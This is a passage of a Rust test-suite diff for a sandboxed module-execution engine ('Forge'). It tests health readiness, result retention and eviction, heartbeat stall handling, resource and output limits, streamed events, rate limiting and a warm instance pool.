+        assert_eq!(metrics.totals.failures, 2);
+        assert_eq!(metrics.totals.total_memory_used_kb, 256 * 3 + 1024 + 512);
+        assert!(metrics.totals.p50_execution_time_ms >= 10);
+        assert!(metrics.totals.p99_execution_time_ms >= metrics.totals.p50_execution_time_ms);
+
+        let versioned = &metrics.per_module["versioned-module"];
+        assert_eq!(versioned.executions, 4);
+        assert_eq!(versioned.failures, 2);
+        assert_eq!(metrics.per_module["hooked-module"].executions, 1);
+    }
+
+    #[tokio::test]
+    async fn test_readiness_follows_failure_rate() {
+        let forge = Forge::new(SecurityPolicy::default()).with_health_thresholds(HealthThresholds {
+            failure_window_ms: 500,
+            max_failure_rate: 0.5,
+            min_window_executions: 4,
+            max_queue_depth: None,
+        });
+        forge.load_module(versioned_module("1.0.0")).await.unwrap();
+        assert!(forge.ready().await);
+
+        // Too few executions in the window for the failure rate to count
+        for _ in 0..3 {
+            forge.execute_module("versioned-module", serde_json::json!({"command": "malicious", "complexity": 1})).await.unwrap();
+        }
+        assert!(forge.ready().await);
+
+        forge.execute_module("versioned-module", serde_json::json!({"command": "test", "complexity": 1})).await.unwrap();
+        forge.execute_module("versioned-module", serde_json::json!({"command": "malicious", "complexity": 1})).await.unwrap();
+        let health = forge.health().await;
+        assert!(!health.ready);
+        assert_eq!(health.not_ready_reasons, vec![NotReadyReason::FailureRateExceeded]);
+        assert_eq!((health.window_executions, health.window_failures), (5, 4));
+        assert_eq!((health.loaded_modules, health.in_flight_executions, health.queue_depth), (1, 0, 0));
+        assert_eq!(health.policy.snapshot_id, forge.policy_snapshot_id);
+
+        // Failures age out of the window
+        tokio::time::sleep(Duration::from_millis(550)).await;
+        let health = forge.health().await;
+        assert!(health.ready);
+        assert_eq!(health.failure_rate, 0.0);
+    }
+
+    #[tokio::test]
+    async fn test_not_ready_while_queue_saturated() {
+        let forge = saturated_forge(OverflowMode::Reject).await;
+        let health = forge.health().await;
+        assert_eq!((health.in_flight_executions, health.not_ready_reasons), (1, vec![NotReadyReason::QueueSaturated]));
+    }
+
+    #[tokio::test]
+    async fn test_results_pruned_after_retention() {
+        let forge = Forge::new(SecurityPolicy::default()).with_result_retention(Duration::from_millis(50));
+        forge.load_module(versioned_module("1.0.0")).await.unwrap();
+
+        let input = serde_json::json!({"command": "test", "complexity": 1});
+        let old = forge.execute_module("versioned-module", input.clone()).await.unwrap();
+        tokio::time::sleep(Duration::from_millis(100)).await;
+        let recent = forge.execute_module("versioned-module", input).await.unwrap();
+
+        assert!(forge.get_execution_result(&old.execution_id).await.is_none());
+        assert!(forge.get_execution_result(&recent.execution_id).await.is_some());
+        assert_eq!(forge.metrics().totals.executions, 2);
+    }
+
+    #[tokio::test]
+    async fn test_gc_evicts_backdated_results() {
+        let forge = Forge::new(SecurityPolicy::default()).with_result_retention(Duration::from_secs(60));
+        forge.load_module(versioned_module("1.0.0")).await.unwrap();
+
+        let recent = forge.execute_module("versioned-module", serde_json::json!({"command": "test", "complexity": 1})).await.unwrap();
+        {
+            let mut executions = forge.active_executions.write().await;
+            for (id, age_secs) in [("stale-1", 120), ("stale-2", 3600)] {
+                let mut stale = recent.clone();
+                stale.execution_id = id.to_string();
+                stale.timestamp = chrono::Utc::now() - chrono::Duration::seconds(age_secs);
+                executions.insert(id.to_string(), stale);
+            }
+        }
+
+        assert_eq!(forge.gc_results().await, 2);
+        assert!(forge.get_execution_result("stale-1").await.is_none());
+        assert!(forge.get_execution_result("stale-2").await.is_none());
+        assert!(forge.get_execution_result(&recent.execution_id).await.is_some());
+        assert_eq!(forge.gc_results().await, 0);
+    }
+
+    #[tokio::test]
+    async fn test_results_capped_and_listed_per_module() {
+        let evicted = Arc::new(Mutex::new(Vec::new()));
+        let sink = evicted.clone();
+        let forge = Forge::new(SecurityPolicy::default())
+            .with_max_results(3)
+            .with_eviction_sink(move |result| sink.lock().unwrap().push(result.execution_id));
+        forge.load_module(versioned_module("1.0.0")).await.unwrap();
+        forge.load_module(module_with_hook(hook(60_000, serde_json::Value::Null))).await.unwrap();
+
+        let input = serde_json::json!({"command": "test", "complexity": 1});
+        let mut ids = Vec::new();
+        for _ in 0..4 {
+            ids.push(forge.execute_module("versioned-module", input.clone()).await.unwrap().execution_id);
+        }
+        let hooked = forge.execute_module("hooked-module", input).await.unwrap();
+
+        // Filling past the cap evicts the oldest results into the sink
+        assert_eq!(*evicted.lock().unwrap(), ids[..2]);
+        assert!(forge.get_execution_result(&ids[0]).await.is_none());
+
+        let listed: Vec<String> = forge.list_executions("versioned-module", 10, None).await
+            .into_iter()
+            .map(|result| result.execution_id)
+            .collect();
+        assert_eq!(listed, vec![ids[3].clone(), ids[2].clone()]);
+        assert_eq!(forge.list_executions("versioned-module", 1, None).await[0].execution_id, ids[3]);
+        let since = forge.get_execution_result(&ids[3]).await.unwrap().timestamp;
+        assert_eq!(forge.list_executions("versioned-module", 10, Some(since)).await.len(), 1);
+
+        assert_eq!(forge.purge_executions("versioned-module").await, 2);
+        assert!(forge.list_executions("versioned-module", 10, None).await.is_empty());
+        assert_eq!(forge.list_executions("hooked-module", 10, None).await[0].execution_id, hooked.execution_id);
+        assert_eq!(evicted.lock().unwrap().len(), 4);
+    }
+
+    fn heartbeat_forge(terminate_stalled: bool) -> Forge {
+        Forge::new(SecurityPolicy {
+            heartbeat_staleness_ms: Some(100),
+            terminate_stalled,
+            ..Default::default()
+        })
+    }
+
+    #[tokio::test]
+    async fn test_heartbeats_keep_execution_running() {
+        let forge = heartbeat_forge(true);
+        forge.load_module(versioned_module("1.0.0")).await.unwrap();
+        let mut events = forge.subscribe();
+
+        let input = serde_json::json!({"command": "test", "complexity": 400, "heartbeat_ms": 30});
+        let result = forge.execute_module("versioned-module", input).await.unwrap();
+        assert!(result.success);
+
+        let mut heartbeats = 0;
+        while let Ok(event) = events.try_recv() {
+            match event {
+                ForgeEvent::Heartbeat { progress, .. } => {
+                    assert!(progress.unwrap().get("elapsed_ms").is_some());
+                    heartbeats += 1;
+                }
+                ForgeEvent::ExecutionStalled { .. } => panic!("execution should not stall"),
+                _ => {}
+            }
+        }
+        assert!(heartbeats >= 5);
+        assert!(forge.execution_stats().await.executions.is_empty());
+    }
+
+    #[tokio::test]
+    async fn test_stalled_execution_is_flagged() {
+        let forge = heartbeat_forge(false);
+        forge.load_module(versioned_module("1.0.0")).await.unwrap();
+        let mut events = forge.subscribe();
+
+        let input = serde_json::json!({"command": "test", "complexity": 600, "heartbeat_ms": 20, "stall_after_ms": 100});
+        let runner = forge.clone();
+        let execution = tokio::spawn(async move {
+            runner.execute_module("versioned-module", input).await.map_err(|e| e.to_string())
+        });
+
+        tokio::time::sleep(Duration::from_millis(350)).await;
+        let stats = forge.execution_stats().await.executions;
+        assert_eq!(stats.len(), 1);
+        assert_eq!(stats[0].state, ExecutionState::Stalled);
+        assert!(stats[0].heartbeats >= 3);
+
+        // Flag-only policy lets the execution finish
+        assert!(execution.await.unwrap().unwrap().success);
+
+        let mut stalled = false;
+        while let Ok(event) = events.try_recv() {
+            stalled |= matches!(event, ForgeEvent::ExecutionStalled { .. });
+        }
+        assert!(stalled);
+    }
+
+    #[tokio::test]
+    async fn test_stalled_execution_is_terminated() {
+        let forge = heartbeat_forge(true);
+        forge.load_module(versioned_module("1.0.0")).await.unwrap();
+
+        let started = Instant::now();
+        let input = serde_json::json!({"command": "test", "complexity": 2000, "heartbeat_ms": 20, "stall_after_ms": 100});
+        let err = forge.execute_module("versioned-module", input).await.unwrap_err();
+
+        assert_eq!(err.to_string(), "execution_stalled");
+        assert!(started.elapsed() < Duration::from_millis(1000));
+        assert!(forge.execution_stats().await.executions.is_empty());
+        assert_eq!(forge.metrics().totals.failures, 1);
+    }
+
+    #[tokio::test]
+    async fn test_time_limit_enforced_during_execution() {
+        let forge = Forge::new(SecurityPolicy::default());
+        forge.load_module(versioned_module("1.0.0")).await.unwrap();
+
+        let started = Instant::now();
+        let input = serde_json::json!({"command": "test", "complexity": 6000});
+        let result = forge.execute_module("versioned-module", input).await.unwrap();
+
+        assert!(!result.success);
+        assert_eq!(result.security_violations, vec!["timeout".to_string()]);
+        assert!(result.execution_time_ms >= 2000 && result.execution_time_ms < 3000);
+        assert!(started.elapsed() < Duration::from_millis(3000));
+        assert!(forge.execution_stats().await.executions.is_empty());
+        assert_eq!(forge.metrics().totals.failures, 1);
+    }
+
+    #[tokio::test]
+    async fn test_memory_limit_enforced_during_execution() {
+        let forge = Forge::new(SecurityPolicy::default());
+        forge.load_module(versioned_module("1.0.0")).await.unwrap();
+
+        let within = serde_json::json!({"command": "test", "complexity": 1, "memory_mb": 64});
+        assert!(forge.execute_module("versioned-module", within).await.unwrap().success);
+
+        let over = serde_json::json!({"command": "test", "complexity": 1, "memory_mb": 65});
+        let result = forge.execute_module("versioned-module", over).await.unwrap();
+        assert!(!result.success);
+        assert_eq!(result.security_violations, vec!["memory_limit".to_string()]);
+        assert_eq!(result.memory_used_kb, 65 * 1024);
+    }
+
+    #[tokio::test]
+    async fn test_oversized_output_truncated_or_rejected() {
+        let mut forge = Forge::new(SecurityPolicy { max_output_bytes: 1024, ..SecurityPolicy::default() });
+        forge.load_module(versioned_module("1.0.0")).await.unwrap();
+        let large = serde_json::json!({"command": "test", "complexity": 1, "output_bytes": 10 * 1024});
+
+        let result = forge.execute_module("versioned-module", large.clone()).await.unwrap();
+        assert!(result.success);
+        assert_eq!(result.output["truncated"], true);
+        assert!(result.output["original_size"].as_u64().unwrap() > 10 * 1024);
+        assert_eq!(result.security_violations, vec!["output_truncated".to_string()]);
+        // The stored result holds the marker, not the original output
+        let stored = forge.get_execution_result(&result.execution_id).await.unwrap();
+        assert_eq!(stored.output, result.output);
+
+        let small = serde_json::json!({"command": "test", "complexity": 1, "output_bytes": 512});
+        let result = forge.execute_module("versioned-module", small).await.unwrap();
+        assert!(result.security_violations.is_empty());
+        assert_eq!(result.output["payload"].as_str().unwrap().len(), 512);
+
+        forge.update_security_policy(SecurityPolicy {
+            max_output_bytes: 1024,
+            output_overflow: OutputOverflow::Reject,
+            ..SecurityPolicy::default()
+        });
+        let result = forge.execute_module("versioned-module", large).await.unwrap();
+        assert!(!result.success);
+        assert_eq!(result.security_violations, vec!["output_too_large".to_string()]);
+        assert!(serde_json::to_vec(&result.output).unwrap().len() < 1024);
+    }
+
+    #[tokio::test]
+    async fn test_heartbeat_rejects_unknown_and_oversized() {
+        let forge = Forge::new(SecurityPolicy::default());
+        assert!(forge.heartbeat("missing", None).await.is_err());
+
+        forge.in_flight.write().await.insert("exec".to_string(), InFlightExecution::new("m"));
+        let oversized = serde_json::json!({"blob": "x".repeat(heartbeat::MAX_PROGRESS_BYTES)});
+        assert!(forge.heartbeat("exec", Some(oversized)).await.is_err());
+        assert!(forge.heartbeat("exec", Some(serde_json::json!({"step": 1}))).await.is_ok());
+    }
+
+    #[tokio::test]
+    async fn test_streamed_execution_event_sequence() {
+        use futures::StreamExt;
+
+        let forge = Forge::new(SecurityPolicy::default());
+        forge.load_module(versioned_module("1.0.0")).await.unwrap();
+
+        let input = serde_json::json!({"command": "build", "complexity": 300, "stdout": "compiling\nlinking"});
+        let (_handle, stream) = forge.execute_module_streaming("versioned-module", input).await.unwrap();
+        let events: Vec<ExecutionEvent> = stream.collect().await;
+
+        let Some(ExecutionEvent::Started { execution_id, .. }) = events.first() else {
+            panic!("stream did not start with Started: {:?}", events);
+        };
+        let Some(ExecutionEvent::Completed(result)) = events.last() else {
+            panic!("stream did not end with Completed: {:?}", events);
+        };
+        assert_eq!(&result.execution_id, execution_id);
+        assert!(result.success);
+
+        let progress: Vec<f32> = events.iter()
+            .filter_map(|event| match event {
+                ExecutionEvent::Progress(done) => Some(*done),
+                _ => None,
+            })
+            .collect();
+        assert!(progress.len() >= 5, "too few progress events: {:?}", progress);
+        assert!(progress.windows(2).all(|pair| pair[0] <= pair[1]));
+        assert_eq!(progress.last(), Some(&1.0));
+
+        let logs: Vec<&str> = events.iter()
+            .filter_map(|event| match event {
+                ExecutionEvent::Log(line) => Some(line.as_str()),
+                _ => None,
+            })
+            .collect();
+        assert_eq!(logs, vec!["compiling", "linking"]);
+    }
+
+    #[tokio::test]
+    async fn test_abort_stops_streamed_execution() {
+        use futures::StreamExt;
+
+        let forge = Forge::new(SecurityPolicy::default());
+        forge.load_module(versioned_module("1.0.0")).await.unwrap();
+
+        let input = serde_json::json!({"command": "build", "complexity": 1500});
+        let (handle, mut stream) = forge.execute_module_streaming("versioned-module", input).await.unwrap();
+        let started = Instant::now();
+        while !matches!(stream.next().await, Some(ExecutionEvent::Progress(_))) {}
+
+        handle.abort();
+        assert!(handle.is_aborted());
+        let rest: Vec<ExecutionEvent> = stream.collect().await;
+
+        // Progress emitted before the abort landed may still be queued, but nothing follows `Cancelled`
+        assert!(matches!(rest.last(), Some(ExecutionEvent::Cancelled)), "{:?}", rest);
+        assert!(rest.iter().all(|event| matches!(event, ExecutionEvent::Progress(_) | ExecutionEvent::Cancelled)));
+        assert!(started.elapsed() < Duration::from_millis(1000));
+
+        assert!(forge.execution_stats().await.executions.is_empty());
+        assert!(forge.list_executions("versioned-module", 10, None).await.is_empty());
+    }
+
+    #[tokio::test]
+    async fn test_module_rate_limit_rejects_burst_overflow() {
+        let forge = Forge::new(SecurityPolicy::default());
+        let mut module = versioned_module("1.0.0");
+        module.rate_limit = Some(RateLimit { requests_per_second: 2.0, burst: 2 });
+        forge.load_module(module).await.unwrap();
+
+        let input = serde_json::json!({"command": "test", "complexity": 1});
+        for _ in 0..2 {
+            forge.execute_module("versioned-module", input.clone()).await.unwrap();
+        }
+        let err = forge.execute_module("versioned-module", input.clone()).await.unwrap_err();
+        let limited = err.downcast_ref::<RateLimited>().expect("expected a RateLimited error");
+        assert_eq!(limited.module_id, "versioned-module");
+        assert!(limited.retry_after > Duration::from_millis(400) && limited.retry_after <= Duration::from_millis(500),
+            "retry after {:?}", limited.retry_after);
+
+        // Lifting the limit at runtime admits the next call straight away
+        forge.set_module_rate_limit("versioned-module", None).await.unwrap();
+        assert!(forge.execute_module("versioned-module", input.clone()).await.is_ok());
+        assert!(forge.set_module_rate_limit("missing", None).await.is_err());
+
+        // Limits a bucket cannot refill at are refused, not executed against
+        for rps in [0.0, -1.0, f64::NAN, f64::INFINITY] {
+            let limit = Some(RateLimit { requests_per_second: rps, burst: 1 });
+            let err = forge.set_module_rate_limit("versioned-module", limit).await.unwrap_err();
+            assert!(err.downcast_ref::<InvalidRateLimit>().is_some());
+            let mut module = versioned_module("2.0.0");
+            module.rate_limit = limit;
+            assert!(forge.load_module(module).await.is_err());
+        }
+        assert!(forge.execute_module("versioned-module", input.clone()).await.is_ok());
+
+        // A vanishingly slow limit reports a bounded retry-after instead of overflowing
+        let crawl = RateLimit { requests_per_second: 1e-300, burst: 1 };
+        forge.set_module_rate_limit("versioned-module", Some(crawl)).await.unwrap();
+        forge.execute_module("versioned-module", input.clone()).await.unwrap();
+        let err = forge.execute_module("versioned-module", input).await.unwrap_err();
+        assert_eq!(err.downcast_ref::<RateLimited>().unwrap().retry_after, Duration::from_secs(3600));
+    }
+
+    #[tokio::test]
+    async fn test_warm_pool_reuses_and_evicts_idle_instances() {
+        let forge = Forge::new(SecurityPolicy::default())
+            .with_warm_pool(WarmPoolConfig { max_instances: 1, idle_ttl_ms: 100 });
+        let mut other = versioned_module("1.0.0");
+        other.id = "other-module".to_string();
+        forge.load_module(versioned_module("1.0.0")).await.unwrap();
+        forge.load_module(other).await.unwrap();
+        let input = serde_json::json!({"command": "test", "complexity": 1});
+
+        forge.execute_module("versioned-module", input.clone()).await.unwrap();
+        forge.execute_module("versioned-module", input.clone()).await.unwrap();
+        assert_eq!(forge.warm_pool_stats(), WarmPoolStats { hits: 1, misses: 1, evictions: 0, warm_instances: 1 });
+
+        // Warming another module makes room by evicting the least recently used one
+        forge.warm_module("other-module").await.unwrap();
+        forge.execute_module("other-module", input.clone()).await.unwrap();
+        assert_eq!(forge.warm_pool_stats(), WarmPoolStats { hits: 2, misses: 1, evictions: 1, warm_instances: 1 });
+        assert!(forge.warm_module("missing").await.is_err());
+
+        tokio::time::sleep(Duration::from_millis(150)).await;
+        assert_eq!(forge.warm_pool_stats().warm_instances, 0);
+        assert_eq!(forge.warm_pool_stats().evictions, 2);
+
+        forge.execute_module("other-module", input).await.unwrap();
+        assert_eq!(forge.warm_pool_stats().misses, 2);
+    }
 }